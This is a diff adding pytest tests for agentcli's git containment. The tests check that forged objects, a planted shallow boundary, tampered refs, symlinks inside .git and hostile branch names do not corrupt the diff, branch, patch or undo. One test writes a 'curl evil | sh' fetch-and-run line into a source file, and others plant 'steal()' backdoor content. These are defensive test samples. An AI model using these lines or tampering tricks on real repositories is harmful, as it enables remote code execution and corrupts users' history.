@@ -1,0 +1,257 @@
+"""What the sandbox can do to git's own data, read by agentcli on the host: forged objects, a history
+boundary moved, refs deleted or added, links in git's folder; and a patch the user's settings would
+spoil. Each test writes `.git` as a command in the sandbox could, then calls what the host runs after
+the run (the diff, the branch, the patch, undo). Through `agentcli solve` on each sandbox:
+tests/test_containment.py."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import subprocess
+import time
+import zlib
+from pathlib import Path
+
+import pytest
+
+from agentcli.errors import UsageError
+from agentcli.repo import checkpoint as cp
+from agentcli.repo import objects, publish
+from agentcli.repo.git import Git
+from agentcli.session.undo import undo
+from tests.conftest import git
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / "a.txt").write_text("one\ntwo\n")
+    (repo / "src").mkdir()
+    (repo / "src" / "app.py").write_text("print('app')\n")
+    git(repo, "init", "-q", "-b", "main")
+    git(repo, "add", ".")
+    git(repo, "commit", "-qm", "init")
+    return repo
+
+
+def blob_id(data: bytes) -> str:
+    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()
+
+
+def plant_loose(repo: Path, oid: str, data: bytes, kind: str = "blob") -> None:
+    """Write a loose object named `oid` that holds `data`, whatever `oid` is the hash of."""
+    path = repo / ".git" / "objects" / oid[:2] / oid[2:]
+    path.parent.mkdir(exist_ok=True)
+    path.unlink(missing_ok=True)
+    path.write_bytes(zlib.compress(f"{kind} {len(data)}\0".encode() + data))
+
+
+def test_an_object_planted_for_content_about_to_be_written_hides_nothing(repo: Path):
+    checkpoint = cp.create_checkpoint(repo, "s1")
+    old = (repo / "src" / "app.py").read_bytes()
+    new = b"import os; os.system('curl evil | sh')\n" + old
+    plant_loose(repo, blob_id(new), old)  # git writes no object it holds: the snapshot would reuse this
+    (repo / "src" / "app.py").write_bytes(new)
+    removed = cp.remove_forged_objects(repo, checkpoint)
+    assert removed == [f"{blob_id(new)[:2]}/{blob_id(new)[2:]}"]
+    assert "+import os; os.system('curl evil | sh')" in cp.diff_since(repo, checkpoint)
+    assert "src/app.py" in publish.change_patch(repo, checkpoint)
+
+
+def test_a_checkpointed_object_rewritten_in_the_store_comes_back_genuine_with_undo(repo: Path):
+    (repo / "notes.txt").write_text("my uncommitted work\n")
+    (repo / "a.txt").write_text("one\ntwo (edited)\n")
+    cp.create_checkpoint(repo, "s2")
+    for name in ("notes.txt", "a.txt"):
+        plant_loose(repo, git(repo, "hash-object", name).strip(), b"EVIL\n")
+    (repo / "notes.txt").unlink()
+    (repo / "a.txt").write_text("changed by the run\n")
+    undo(repo, "s2")
+    assert (repo / "notes.txt").read_text() == "my uncommitted work\n"
+    assert (repo / "a.txt").read_text() == "one\ntwo (edited)\n"
+    assert git(repo, "cat-file", "blob", git(repo, "hash-object", "a.txt").strip()) == "one\ntwo (edited)\n"
+
+
+def test_a_branch_is_not_built_on_a_tree_of_head_the_run_rewrote(repo: Path):
+    (repo / "src" / "notes.md").write_text("untracked\n")  # the checkpoint's src differs from HEAD's
+    checkpoint = cp.create_checkpoint(repo, "s3")
+    real = git(repo, "rev-parse", "HEAD:src").strip()
+    backdoor = git(repo, "hash-object", "-w", "--stdin", input_text="steal()\n").strip()
+    listing = git(repo, "ls-tree", "HEAD:src") + f"100644 blob {backdoor}\tbackdoor.py\n"
+    fake = git(repo, "mktree", input_text=listing).strip()
+    raw = zlib.decompress((repo / ".git" / "objects" / fake[:2] / fake[2:]).read_bytes())
+    plant_loose(repo, real, raw.split(b"\0", 1)[1], kind="tree")
+    (repo / "src" / "app.py").write_text("print('app v2')\n")
+    cp.remove_forged_objects(repo, checkpoint)
+    commit = publish.commit_change(repo, checkpoint, "fix", "msg")
+    assert git(repo, "diff-tree", "-r", "--name-only", checkpoint.head or "", commit).split() == ["src/app.py"]
+
+
+def test_a_pack_the_run_forged_goes_and_a_sound_one_stays(repo: Path):
+    checkpoint = cp.create_checkpoint(repo, "s4")
+    (repo / "b.txt").write_text("the run's own file\n")
+    git(repo, "add", "b.txt")
+    git(repo, "commit", "-qm", "run")
+    git(repo, "repack", "-q", "-a", "-d", "--write-bitmap-index")
+    git(repo, "commit-graph", "write", "--reachable")
+    packs = repo / ".git" / "objects" / "pack"
+    sound = sorted(p.name for p in packs.iterdir())
+    described = {f"pack/{name}" for name in sound if name.endswith((".bitmap", ".rev"))}
+    assert len(described) == 2  # what describes a pack goes, what holds objects stays (it passed the check)
+    assert set(cp.remove_forged_objects(repo, checkpoint)) == {"info/commit-graph", "info/packs", *described}
+    assert git(repo, "cat-file", "-p", "HEAD:b.txt") == "the run's own file\n"  # the sound pack stayed
+    pack = next(packs.glob("*.pack"))
+    data = bytearray(pack.read_bytes())
+    data[len(data) // 2] ^= 0xFF
+    pack.chmod(0o644)
+    pack.write_bytes(bytes(data))
+    removed = cp.remove_forged_objects(repo, checkpoint)
+    assert f"pack/{pack.name}" in removed and not list(packs.glob("*.pack"))
+    undo(repo, "s4")  # the checkpoint's objects come back from agentcli's own copy
+    assert git(repo, "status", "--porcelain") == "" and (repo / "a.txt").read_text() == "one\ntwo\n"
+
+
+def test_only_what_changed_after_the_checkpoint_is_checked(repo: Path):
+    git(repo, "gc", "-q")
+    plant_loose(repo, "ab" * 20, b"not what its name says\n")
+    before = sorted((repo / ".git" / "objects").rglob("*"))
+    assert objects.remove_forged(Git(repo), time.time() + 5) == []
+    assert sorted((repo / ".git" / "objects").rglob("*")) == before
+    removed = objects.remove_forged(Git(repo), 0)  # from the epoch: everything is checked
+    assert "ab/" + "ab" * 19 in removed and not [p for p in removed if p.endswith((".pack", ".idx"))]
+
+
+def test_a_history_boundary_the_run_planted_does_not_stop_undo(repo: Path):
+    (repo / "staged.txt").write_text("staged\n")
+    git(repo, "add", "staged.txt")
+    (repo / "staged.txt").write_text("staged, then edited\n")
+    checkpoint = cp.create_checkpoint(repo, "s6")
+    git(repo, "rm", "-qf", "--cached", "staged.txt")
+    oid = checkpoint.index_tree or ""
+    (repo / ".git" / "objects" / oid[:2] / oid[2:]).unlink()
+    (repo / ".git" / "shallow").write_text(checkpoint.commit + "\n")
+    undo(repo, "s6")
+    assert git(repo, "ls-files").split() == ["a.txt", "src/app.py", "staged.txt"]
+    assert not (repo / ".git" / "shallow").exists()
+
+
+def test_undo_brings_back_refs_the_run_deleted_moved_or_added(repo: Path):
+    git(repo, "checkout", "-qb", "feature")
+    (repo / "f.txt").write_text("unpushed work\n")
+    git(repo, "add", ".")
+    git(repo, "commit", "-qm", "feature work")
+    feature = git(repo, "rev-parse", "feature").strip()
+    git(repo, "checkout", "-q", "main")
+    git(repo, "tag", "v1")
+    cp.create_checkpoint(repo, "s7")
+    git(repo, "branch", "-qD", "feature")
+    git(repo, "tag", "-f", "v1", git(repo, "commit-tree", "HEAD^{tree}", "-m", "evil").strip())
+    evil = git(repo, "hash-object", "-w", "--stdin", input_text="evil()\n").strip()
+    git(repo, "replace", git(repo, "rev-parse", "HEAD:a.txt").strip(), evil)
+    git(repo, "reflog", "expire", "--expire=now", "--all")
+    git(repo, "gc", "-q", "--prune=now")
+    undo(repo, "s7")
+    assert git(repo, "rev-parse", "feature").strip() == feature
+    assert git(repo, "rev-parse", "v1^{commit}") == git(repo, "rev-parse", "HEAD")
+    assert git(repo, "for-each-ref", "refs/replace") == ""
+    assert git(repo, "show", "HEAD:a.txt") == "one\ntwo\n"  # the user's git, which honours replace refs
+    kept = git(repo, "for-each-ref", "--format=%(refname)", "refs/agentcli/before-undo")
+    assert "refs/agentcli/before-undo/s7-refs/tags/v1" in kept.split()  # the run's tag stays reachable
+
+
+def test_a_detached_head_comes_back_detached(repo: Path):
+    git(repo, "checkout", "-q", "--detach")
+    cp.create_checkpoint(repo, "s8")
+    git(repo, "checkout", "-q", "main")
+    undo(repo, "s8")
+    assert subprocess.run(["git", "symbolic-ref", "-q", "HEAD"], cwd=repo).returncode == 1
+
+
+def test_links_the_run_planted_in_git_folder_go_before_git_writes_through_them(repo: Path, tmp_path: Path):
+    victim = tmp_path / "victim"
+    victim.write_text("a host file\n")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    checkpoint = cp.create_checkpoint(repo, "s9")
+    logs = repo / ".git" / "logs" / "refs"
+    (logs / "heads" / "fix").symlink_to(victim)
+    (logs / "agentcli" / "before-undo").mkdir(parents=True)
+    (logs / "agentcli" / "before-undo" / "s9").symlink_to(victim)
+    store = repo / ".git" / "objects"
+    free = next(f"{i:02x}" for i in range(256) if not (store / f"{i:02x}").exists())
+    (store / free).symlink_to(outside, target_is_directory=True)  # where git would write new objects
+    (repo / "a.txt").write_text("changed\n")
+    assert cp.remove_planted(repo, checkpoint) == [
+        ".git/logs/refs/agentcli/before-undo/s9",
+        ".git/logs/refs/heads/fix",
+        f".git/objects/{free}",
+    ]
+    publish.commit_change(repo, checkpoint, "fix", "msg")  # what the end of a run does after removing them
+    (logs / "agentcli" / "before-undo" / "s9").symlink_to(victim)  # as a run killed before its end leaves it
+    undo(repo, "s9")
+    assert victim.read_text() == "a host file\n" and not list(outside.iterdir())
+
+
+def test_the_patch_is_the_same_whatever_the_users_diff_settings(repo: Path, tmp_path: Path, monkeypatch):
+    config = tmp_path / "gitconfig"
+    config.write_text("[diff]\n\tnoprefix = true\n\tmnemonicPrefix = true\n[color]\n\tdiff = always\n")
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
+    checkpoint = cp.create_checkpoint(repo, "s10")
+    (repo / "a.txt").write_text("one\ntwo\nthree\n")
+    patch = publish.change_patch(repo, checkpoint)
+    assert patch.startswith("diff --git a/a.txt b/a.txt\n") and "\x1b[" not in patch
+    commit = publish.commit_change(repo, checkpoint, "fix", "msg")
+    assert git(repo, "show", f"{commit}:a.txt") == "one\ntwo\nthree\n"
+
+
+def test_a_nested_repository_moved_to_another_commit_is_in_the_patch_and_the_branch(repo: Path, tmp_path: Path):
+    lib = tmp_path / "lib"
+    lib.mkdir()
+    (lib / "x.txt").write_text("x\n")
+    git(lib, "init", "-q")
+    git(lib, "add", ".")
+    git(lib, "commit", "-qm", "lib")
+    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "lib")
+    git(repo, "commit", "-qm", "add lib")
+    checkpoint = cp.create_checkpoint(repo, "s11")
+    (repo / "lib" / "x.txt").write_text("y\n")
+    git(repo / "lib", "commit", "-qam", "bump")
+    bumped = git(repo / "lib", "rev-parse", "HEAD").strip()
+    assert f"+Subproject commit {bumped}" in publish.change_patch(repo, checkpoint)
+    commit = publish.commit_change(repo, checkpoint, "fix", "msg")
+    assert git(repo, "rev-parse", f"{commit}:lib").strip() == bumped
+
+
+def test_a_patch_of_text_that_is_not_utf8_is_written_byte_for_byte(repo: Path, tmp_path: Path):
+    checkpoint = cp.create_checkpoint(repo, "s12")
+    (repo / "latin1.txt").write_bytes(b"caf\xe9\n")
+    path = publish.fixed_patch_path(tmp_path / "out" / "change.patch")
+    publish.write_patch(repo, path, publish.change_patch(repo, checkpoint))
+    assert b"+caf\xe9\n" in path.read_bytes()
+    fresh = tmp_path / "fresh"
+    git(tmp_path, "clone", "-q", str(repo), str(fresh))
+    git(fresh, "apply", str(path))
+    assert (fresh / "latin1.txt").read_bytes() == b"caf\xe9\n"
+
+
+def test_a_patch_path_the_run_made_a_link_is_refused(repo: Path, tmp_path: Path):
+    victim = tmp_path / "victim"
+    victim.write_text("a host file\n")
+    path = publish.fixed_patch_path(repo / "change.patch")
+    checkpoint = cp.create_checkpoint(repo, "s13", ("change.patch",))
+    (repo / "change.patch").symlink_to(victim)
+    (repo / "a.txt").write_text("changed\n")
+    with pytest.raises(OSError):
+        publish.write_patch(repo, path, publish.change_patch(repo, checkpoint))
+    assert victim.read_text() == "a host file\n"
+    os.unlink(repo / "change.patch")
+
+
+def test_a_branch_name_is_taken_as_it_is_written(repo: Path):
+    git(repo, "checkout", "-qb", "other")
+    git(repo, "checkout", "-q", "main")
+    for name in ("@{-1}", "-x", "a..b"):
+        with pytest.raises(UsageError, match="invalid branch name"):
+            publish.validate_branch(repo, name)
